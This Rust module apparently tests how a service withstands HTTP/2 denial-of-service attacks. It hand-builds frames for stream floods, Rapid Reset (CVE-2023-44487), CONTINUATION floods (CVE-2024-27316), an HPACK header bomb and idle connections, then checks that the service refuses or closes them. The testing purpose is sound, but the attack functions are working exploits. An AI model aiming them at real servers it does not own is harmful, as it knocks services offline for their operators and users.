//! Attacks over HTTP/2 (RFC 9113), frame by frame, since no library would send them.

use std::iter;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::ensure;
use futures::future::try_join_all;

use super::{CART, End, connect, send};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The number of connections of each attack.
const CONNECTIONS: usize = 10;

/// Types of frames.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

/// The error code of a connection that is closed because of excessive load.
const ENHANCE_YOUR_CALM: u32 = 0xb;

/// Flags of HEADERS.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
    let mut frame = vec![len[1], len[2], len[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Encodes a name or value, without compression.
fn text(text: &str) -> Vec<u8> {
    let len = u8::try_from(text.len()).ok().filter(|len| *len < 127).expect("a short text");
    [&[len], text.as_bytes()].concat()
}

/// The fields of every request (HPACK, RFC 7541): from the static table, with `path` and `host` in full.
fn request(method: u8, path: &str) -> Vec<u8> {
    [&[method, 0x86, 0x04][..], &text(path), &[0x01], &text("x")].concat()
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

fn start() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// The frames of an answer, by type and payload.
fn frames(mut bytes: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let mut frames = Vec::new();
    while let [a, b, c, kind, _, _, _, _, _, rest @ ..] = bytes {
        let len = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        let Some((payload, rest)) = rest.split_at_checked(len) else { break };
        frames.push((*kind, payload.to_vec()));
        bytes = rest;
    }
    frames
}

/// Several connections that send the same. The frames are made while they are sent, so that the attacker spends nothing on
/// what the service no longer reads.
async fn attack<I>(address: SocketAddr, from: u8, parts: impl Fn() -> I) -> anyhow::Result<Vec<End>>
where
    I: Iterator<Item = Vec<u8>>,
{
    let one = async || {
        let parts = iter::once(start()).chain(parts());
        send(connect(address, from).await?, parts, Duration::ZERO).await
    };
    try_join_all((0..CONNECTIONS).map(|_| one())).await
}

fn count(end: &End, kind: u8) -> usize {
    frames(&end.answer).iter().filter(|(of, _)| *of == kind).count()
}

/// Ids of a client's streams.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Ten thousand concurrent requests without their bodies.
///
/// # Errors
/// A connection is not closed, or no request is rejected.
pub async fn too_many_streams(address: SocketAddr) -> anyhow::Result<()> {
    let fields = request(POST, CART);
    let parts = || {
        iter::once_with(|| streams(10_000).flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &fields)).collect())
    };
    for end in attack(address, 12, parts).await? {
        let (refused, ended) = (count(&end, RST_STREAM), count(&end, GOAWAY));
        ensure!(refused > 0 || ended > 0, "nothing was refused: {} frames", frames(&end.answer).len());
        let answered = count(&end, HEADERS);
        ensure!(answered <= 1_000, "{answered} of 10,000 requests were worked on at once");
    }
    Ok(())
}

/// Requests that are reset at once (CVE-2023-44487): 50,000 from connections that never read, and a thousand from connections
/// that then wait for the answer.
///
/// # Errors
/// A connection is not closed, or does not get the reason that it waits for.
pub async fn rapid_reset(address: SocketAddr) -> anyhow::Result<()> {
    let fields = request(GET, CART);
    let one = |stream| {
        let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields);
        both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        both
    };
    let some = |group: u32| (group * 1_000..(group + 1) * 1_000).flat_map(|number| one(2 * number + 1)).collect();
    let parts = |thousands: u32| (0..thousands).map(some);
    // All are closed, or `attack` fails. A connection that still sends may miss the reason.
    attack(address, 13, || parts(50)).await?;
    let is_told = |end: &End| {
        let mut ends = frames(&end.answer).into_iter().filter(|(kind, _)| *kind == GOAWAY);
        ends.next_back().is_some_and(|(_, payload)| payload.get(4..8) == Some(&ENHANCE_YOUR_CALM.to_be_bytes()))
    };
    let waiting = attack(address, 13, || parts(1)).await?;
    ensure!(waiting.iter().all(is_told), "{waiting:?}");
    Ok(())
}

/// A head that continues in frame after frame (CVE-2024-27316).
///
/// # Errors
/// A connection is not closed.
pub async fn endless_head(address: SocketAddr) -> anyhow::Result<()> {
    let field = [&[0x00][..], &text("x-a"), &text(&"a".repeat(100))].concat();
    let part = field.repeat(150);
    let parts = || {
        let head = frame(HEADERS, END_STREAM, 1, &request(GET, "/health/live"));
        iter::once(head).chain((0..5_000).map(|_| frame(CONTINUATION, 0, 1, &part)))
    };
    attack(address, 14, parts).await.map(|_| ())
}

/// A small head that decompresses to a large one: a field is defined once, and then referenced many times.
///
/// # Errors
/// A connection is not closed, or a request is accepted.
pub async fn header_bomb(address: SocketAddr) -> anyhow::Result<()> {
    let indexed = [&[0x40][..], &text("x-a"), &text(&"a".repeat(126))].concat();
    let fields = [request(GET, "/health/live"), indexed, vec![0x80 | 62; 15_000]].concat();
    let parts = || streams(100).map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields));
    for end in attack(address, 15, parts).await? {
        // Each has 2 MB of fields, and must be rejected.
        let ok =
            frames(&end.answer).iter().filter(|(kind, head)| *kind == HEADERS && head.first() == Some(&0x88)).count();
        ensure!(ok == 0, "{ok} requests came through");
    }
    Ok(())
}

/// A connection without a request, or after its last one.
///
/// # Errors
/// A connection is not closed, or is closed before its idle timeout (`idle`).
pub async fn nothing(address: SocketAddr, idle: Duration) -> anyhow::Result<()> {
    attack(address, 16, iter::empty).await?;
    let once = || iter::once(frame(HEADERS, END_HEADERS | END_STREAM, 1, &request(GET, "/health/live")));
    for end in attack(address, 16, once).await? {
        ensure!(count(&end, HEADERS) == 1, "a request was not answered");
        ensure!(end.after >= idle, "a connection that was used was closed after {:?}", end.after);
    }
    Ok(())
}
